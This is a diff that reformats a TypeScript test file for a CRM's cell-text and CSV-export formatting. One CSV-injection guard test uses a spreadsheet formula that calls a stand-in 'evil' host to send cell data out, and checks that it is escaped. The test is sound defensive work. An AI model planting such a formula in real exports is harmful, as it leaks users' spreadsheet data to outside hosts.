@@ -1,8 +1,18 @@
 import { CellValue, FieldDefinition } from '@crm/events';
 import { csvCellText, formatCellText } from './format-cell';
 
-const f = (type: string, options: Record<string, unknown> = {}): FieldDefinition => ({ id: 'fld', name: 'F', type, options, role: null });
-const ctx = { linkText: (id: string) => ({ rec_a: 'Acme', rec_b: 'Smith, Jones & Co' } as Record<string, string>)[id], actorName: (id: string) => (id === 'usr_ada' ? 'Ada' : id) };
+const f = (type: string, options: Record<string, unknown> = {}): FieldDefinition => ({
+  id: 'fld',
+  name: 'F',
+  type,
+  options,
+  role: null,
+});
+const ctx = {
+  linkText: (id: string) =>
+    (({ rec_a: 'Acme', rec_b: 'Smith, Jones & Co' }) as Record<string, string>)[id],
+  actorName: (id: string) => (id === 'usr_ada' ? 'Ada' : id),
+};
 const text = (field: FieldDefinition, v: CellValue) => formatCellText(field, v, ctx);
 const csv = (field: FieldDefinition, v: CellValue) => csvCellText(field, v, ctx);
 
@@ -17,15 +27,23 @@ describe('formatting a cell for CSV', () => {
     expect(text(f('checkbox'), true)).toBe('checked');
     expect(text(f('checkbox'), false)).toBe('');
     expect(text(f('multiple_select'), ['ESG', 'Re-up, 2026'])).toBe('ESG,"Re-up, 2026"');
-    expect(text(f('link'), ['rec_b', 'rec_a', 'rec_unknown'])).toBe('"Smith, Jones & Co",Acme,rec_unknown');
-    expect(text(f('attachment'), [{ filename: 'deck.pdf', url: 'https://x.example/d' }] as unknown as CellValue)).toBe('deck.pdf (https://x.example/d)');
+    expect(text(f('link'), ['rec_b', 'rec_a', 'rec_unknown'])).toBe(
+      '"Smith, Jones & Co",Acme,rec_unknown',
+    );
+    expect(
+      text(f('attachment'), [
+        { filename: 'deck.pdf', url: 'https://x.example/d' },
+      ] as unknown as CellValue),
+    ).toBe('deck.pdf (https://x.example/d)');
     expect(text(f('date'), '2026-01-31')).toBe('2026-01-31');
     expect(text(f('created_by'), 'usr_ada')).toBe('Ada');
     expect(text(f('text'), null)).toBe('');
   });
 
   it('guards text a spreadsheet would run, and leaves numbers as numbers', () => {
-    expect(csv(f('text'), '=HYPERLINK("http://evil/?"&A1,"x")')).toBe('\'=HYPERLINK("http://evil/?"&A1,"x")');
+    expect(csv(f('text'), '=HYPERLINK("http://evil/?"&A1,"x")')).toBe(
+      '\'=HYPERLINK("http://evil/?"&A1,"x")',
+    );
     expect(csv(f('text'), '-2+3')).toBe("'-2+3");
     expect(csv(f('phone'), '+44 20 7946 0958')).toBe("'+44 20 7946 0958");
     expect(csv(f('single_select'), '@home')).toBe("'@home");
